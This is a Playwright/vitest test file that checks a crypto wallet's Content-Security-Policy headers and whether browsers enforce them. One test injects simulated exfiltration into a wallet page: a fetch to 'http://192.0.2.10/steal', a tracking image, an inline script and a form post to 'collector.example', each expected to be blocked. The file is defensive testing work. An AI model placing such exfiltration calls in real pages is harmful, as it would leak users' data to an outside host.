import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { responseTo, sendRequest } from '../apps/wallet/src/testing/installTestHost.js'
import {
  type CspViolation,
  recordCspViolations,
} from '../apps/wallet/src/testing/recordCspViolations.js'
import { startWalletTestbed, type WalletTestbed } from '../apps/wallet/src/testing/walletTestbed.js'

/** A Content-Security-Policy's directives by name, each with its sources. */
function directivesOf(policy: string | null): Record<string, string[]> {
  return Object.fromEntries(
    (policy ?? '').split(';').map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/)
      return [name, sources]
    }),
  )
}

/**
 * The wallet's pages as the local stack serves them (`startWalletHost`), in Chromium: each carries
 * the wallet's policy, the wallet works under it, and it is enforced (issue #15 finding 7).
 */
describe('the wallet under its Content-Security-Policy (issue #15 finding 7)', () => {
  let bed: WalletTestbed
  beforeAll(async () => {
    bed = await startWalletTestbed()
  })
  afterAll(() => bed?.stop())

  test('default: every wallet page carries default-src, script-src, connect-src, img-src, form-action, base-uri, object-src and frame-ancestors', async () => {
    const { walletUrl, demoAppId, demoUrl } = bed.stack
    const config = (await (await fetch(`${walletUrl}/wallet-config.json`)).json()) as {
      gatewayUrl: string
      authUrl: string
      keyNetwork: { nodes: { url: string }[] }
    }
    const services = [
      config.gatewayUrl,
      config.authUrl,
      ...config.keyNetwork.nodes.map((n) => n.url),
    ]
    const appPages = ['v2/login', 'v2/init/', 'login', 'redirect/', 'v1/reconnect/']
    const pages = [
      ...appPages.map((path) => ({
        path: `/${demoAppId}/${path}`,
        ancestors: ["'self'", demoUrl],
      })),
      { path: '/loggedin', ancestors: ["'self'"] },
      { path: '/global-redirect/', ancestors: ["'self'"] },
    ]
    for (const { path, ancestors } of pages) {
      const response = await fetch(`${walletUrl}${path}`)
      expect(response.status).toBe(200)
      const policy = directivesOf(response.headers.get('content-security-policy'))
      expect(policy, path).toMatchObject({
        'default-src': ["'self'"],
        'script-src': ["'self'"],
        'object-src': ["'none'"],
        'base-uri': ["'none'"],
        'form-action': ["'none'"],
        'frame-ancestors': ancestors,
      })
      for (const service of services)
        expect(policy['connect-src'], path).toContain(new URL(service).origin)
      expect(policy['connect-src']).toEqual(expect.arrayContaining(["'self'", 'https:', 'wss:']))
      expect(policy['connect-src']).not.toContain('*')
      expect(policy['connect-src']).not.toContain('http:')
      expect(policy['img-src']).toEqual(expect.arrayContaining(["'self'", 'https:', 'data:']))
    }
  })

  test('behavior: a login, an approved signature, every logged-in screen and a custom network work under it, and Chromium reports no violation', async () => {
    const page = await bed.openHost()
    const { address } = await bed.loginWithOtp(page, 'csp-frame@example.com')
    await sendRequest(page, 'sign', 'personal_sign', ['0x68656c6c6f', address])
    await bed.walletFrame(page).getByRole('button', { name: 'Approve' }).click()
    expect((await responseTo(page, 'sign')).result).toMatch(/^0x[0-9a-f]{130}$/)

    // The full-page wallet: its screens load balances, logos and images under the policy.
    const tab = await (await bed.newProfile()).newPage()
    await bed.loginOnLoginPage(tab, 'csp-page@example.com')
    const nav = tab.getByRole('navigation', { name: 'Wallet sections' })
    for (const name of ['NFT', 'Profile', 'Activity', 'Tokens'])
      await nav.getByRole('link', { name }).click()
    await tab.getByText('Total Balance:').waitFor()
    // A network the user adds: its RPC (a local node here) is asked from the page itself.
    await addNetwork(tab, bed.stack.chains.find((chain) => chain.id === 31_338)?.rpcUrl ?? '')
    expect(bed.cspViolations).toEqual([])
  })

  test('error: it is enforced: the wallet page reaches no plain http host on the network, runs no inline script, loads no http image and posts no form', async () => {
    // A profile of its own: these violations are the point, not the wallet's.
    const profile = await bed.browser.newContext()
    const violations: CspViolation[] = []
    await recordCspViolations(profile, violations)
    const tab = await profile.newPage()
    await tab.goto(`${bed.stack.walletUrl}/${bed.stack.demoAppId}/login`)
    await tab.getByRole('button', { name: 'Send code' }).waitFor()
    const outcome = await tab.evaluate(async () => {
      const fetched = await fetch('http://192.0.2.10/steal').then(
        () => 'fetched',
        () => 'blocked',
      )
      const script = document.createElement('script')
      script.textContent = 'window.inlineRan = true'
      document.head.append(script)
      const image = new Image()
      image.src = 'http://192.0.2.10/pixel.png'
      document.body.append(image)
      const form = document.createElement('form')
      form.action = 'https://collector.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
      return { fetched, inlineRan: (window as unknown as { inlineRan?: true }).inlineRan ?? false }
    })
    expect(outcome).toEqual({ fetched: 'blocked', inlineRan: false })
    await expect
      .poll(() => violations.map((v) => v.directive).sort())
      .toEqual(['connect-src', 'form-action', 'img-src', 'script-src-elem'])
    expect(violations.find((v) => v.directive === 'connect-src')?.blockedUri).toBe(
      'http://192.0.2.10/steal',
    )
    await profile.close()
  })
})

/**
 * Adds a network through Manage networks, as a user types it: the local node of chain 31338 under
 * another spelling of its URL, so the page itself asks an RPC the user chose (SPEC §5).
 */
async function addNetwork(tab: Page, rpcUrl: string) {
  await tab.getByRole('button', { name: 'Manage networks' }).click()
  await tab
    .getByRole('dialog', { name: 'Networks' })
    .getByRole('button', { name: 'Add network' })
    .click()
  const sheet = tab.getByRole('dialog', { name: 'Add network' })
  await sheet.getByLabel('Network Name').fill('Added under CSP')
  await sheet.getByLabel('RPC URL').fill(rpcUrl.replace('127.0.0.1', 'localhost'))
  await sheet.getByLabel('Currency Symbol').fill('ADD')
  await sheet.getByLabel('Chain ID').fill('0x7a6a')
  await sheet.getByRole('button', { name: 'Save' }).click()
  await expect
    .poll(() => tab.getByLabel('Network', { exact: true }).inputValue(), { timeout: 15_000 })
    .toBe('eip155:31338')
}
